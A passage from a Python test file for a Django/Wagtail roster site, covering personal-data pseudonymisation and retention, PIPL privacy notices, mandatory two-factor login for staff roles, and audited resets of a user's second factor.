    Daily(stdout=out, stderr=io.StringIO()).handle()
    assert "个人信息去标识化 1 人" in out.getvalue()
    person = Person.objects.get(pk=old.person.pk)
    assert person.id_number != real_id and real_id not in person.id_number and person.phone == ""
    assert person.bank_name == person.bank_account == ""
    assert person.pseudonymised_on == clock.NOW.date() and person.id_key == key
    assert (person.birth_date.month, person.birth_date.day) == (1, 1)
    for other in (recent.person, running.person):
        other.refresh_from_db()
        assert (other.id_number, other.phone) == untouched[other.pk]
    assert pseudonymise_due() == 0  # once only
    assert pseudonymise_due(datetime.date(2028, 2, 29)) == 0  # a leap day counts back to 28 February

    # The same person registered again: the earlier revocation is still found (Art 7(1)).
    again = PersonFactory(id_number=real_id, unit=old.unit, name=old.person.name)
    assert again.id_key == key
    entry = EntryFactory(person=again, round=RoundFactory(year=2026))
    checks = {c.key: c for c in entry.checklist()}
    assert "2016年度首席技师资格曾依第十五条第2项被取消" in checks["revocation"].reason


def test_an_objectors_name_and_contact_go_years_after_the_decision_and_the_notices_say_so(client, demo_site, settings):
    from roster.pseudonymise import FORGOTTEN, forget_objectors
    from tests.factories import ObjectionFactory

    settings.PERSONAL_DATA_RETENTION_YEARS = 5
    with clock.travel(2020, 3, 2):
        old = ObjectionFactory(submitter_name="老异议人", submitter_contact="13811112222")
        old.status, old.decided_at = "dismissed", timezone.now()
        old.save()
    fresh = ObjectionFactory(submitter_name="新异议人", submitter_contact="13833334444")
    assert forget_objectors() == 1 and forget_objectors() == 0
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert (old.submitter_name, old.submitter_contact) == (FORGOTTEN, "")
    assert fresh.submitter_name == "新异议人"

    # PIPL Art 17 on the privacy page, the objection form and the application.
    page = client.get(reverse("privacy")).content.decode()
    for words in ("个人信息处理者", "处理目的和方式", "保存期限", "5年", "您的权利"):
        assert words in page
    assert reverse("privacy") in client.get("/").content.decode()
    entry = EntryFactory(status=S.SUBMITTED)
    client.force_login(UserFactory(role=roles.OFFICE))
    form = docx_text(client.get(reverse("roster_form_docx", args=(entry.pk,))).content)
    assert "个人信息处理告知" in form and "保存期限" in form and "申报人签字" in form
    client.logout()
    objection_page = client.get(demo_site["publicity"].objection_url()).content.decode()
    assert "个人信息处理告知" in objection_page and "不向被反映人和推荐单位透露" in objection_page


# --- The bar: two-factor login for every staff account ------------------------------------------------------


def totp_code(device) -> str:
    from django_otp.oath import TOTP

    return f"{TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift).token():06d}"


def later(seconds: int):
    """The clock `seconds` on, standing still (a TOTP code and django-otp's throttle both read it)."""
    import datetime

    import time_machine

    return time_machine.travel(timezone.now() + datetime.timedelta(seconds=seconds), tick=False)


def sign_in(client, user, password="pw-test-123"):
    return client.post(
        reverse("wagtailadmin_login"), {"username": user.username, "password": password, "next": "/admin/"}
    )


def test_every_staff_role_sets_up_and_then_uses_a_second_factor(client):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    for role in roles.ALL_ROLES:
        client.logout()
        user = UserFactory(role=role, unit=UnitFactory() if role == roles.RECOMMENDER else None)
        sign_in(client, user)
        # The password alone opens nothing: the first sign-in goes to the set-up page.
        blocked = client.get("/admin/")
        assert blocked.status_code == 302 and blocked["Location"].startswith(reverse("roster_2fa_setup")), role
        page = client.get(blocked["Location"]).content.decode()
        assert "<svg" in page and "验证器应用" in page
        device = TOTPDevice.objects.get(user=user, confirmed=False)
        wrong = client.post(reverse("roster_2fa_setup"), {"code": "000000", "next": "/admin/"})
        assert "验证码不正确" in wrong.content.decode() and not TOTPDevice.objects.get(pk=device.pk).confirmed
        # django-otp then makes the next try wait (1 s, doubling with each wrong code).
        assert "请稍等几秒" in client.post(reverse("roster_2fa_setup"), {"code": "000000"}).content.decode()
        with later(seconds=5):
            done = client.post(reverse("roster_2fa_setup"), {"code": totp_code(device), "next": "/admin/"})
        codes = [li.text for li in BeautifulSoup(done.content, "html.parser").select(".recovery-codes code")]
        assert len(codes) == 10 and len(set(codes)) == 10
        assert client.get("/admin/").status_code == 200, role
    # Next time: the password, then a code from the app.
    client.logout()
    sign_in(client, user)
    assert client.get("/admin/")["Location"].startswith(reverse("roster_2fa_verify"))
    assert "验证码不正确" in client.post(reverse("roster_2fa_verify"), {"code": "123456"}).content.decode()
    assert client.get("/admin/").status_code == 302
    with later(seconds=60):
        client.post(reverse("roster_2fa_verify"), {"code": totp_code(device), "next": "/admin/"})
        assert client.get("/admin/").status_code == 200
    # A recovery code stands in once.
    with later(seconds=120):
        client.logout()
        sign_in(client, user)
        used = client.post(reverse("roster_2fa_verify"), {"code": codes[0], "next": "/admin/"}, follow=True)
        assert "还剩 9 个" in used.content.decode() and client.get("/admin/").status_code == 200
        client.logout()
        sign_in(client, user)
        client.post(reverse("roster_2fa_verify"), {"code": codes[0], "next": "/admin/"})
        assert client.get("/admin/").status_code == 302
    # The public site never asks for anything.
    client.logout()
    assert client.get("/").status_code in (200, 302) and "2fa" not in client.get("/").get("Location", "")


def test_the_office_resets_another_users_second_factor_and_it_is_recorded(client):
    from django_otp import user_has_device
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from roster.audit import SecurityEvent

    staff = UserFactory(role=roles.EXPERT)
    TOTPDevice.objects.create(user=staff, name="手机", confirmed=True)
    url = reverse("roster_2fa_reset", args=(staff.pk,))
    for role in (roles.RECOMMENDER, roles.EXPERT, roles.FINANCE, roles.EDITOR, roles.LEADING_GROUP):
        client.force_login(UserFactory(role=role, unit=UnitFactory() if role == roles.RECOMMENDER else None))
        assert client.post(url).status_code in (302, 403)
        assert user_has_device(staff)
    office = UserFactory(role=roles.OFFICE)
    client.force_login(office)
    listing = client.get(reverse("roster_2fa_accounts")).content.decode()
    assert staff.username in listing and "已启用" in listing and url in listing
    assert "确认重置" in client.get(url).content.decode()
    client.post(url)
    assert not user_has_device(staff, confirmed=None)
    event = SecurityEvent.objects.filter(kind="otp_reset").get()
    assert event.user == office and staff.username in event.detail
    # At the next sign-in the user sets up again.
    client.logout()
    sign_in(client, staff)
    assert client.get("/admin/")["Location"].startswith(reverse("roster_2fa_setup"))
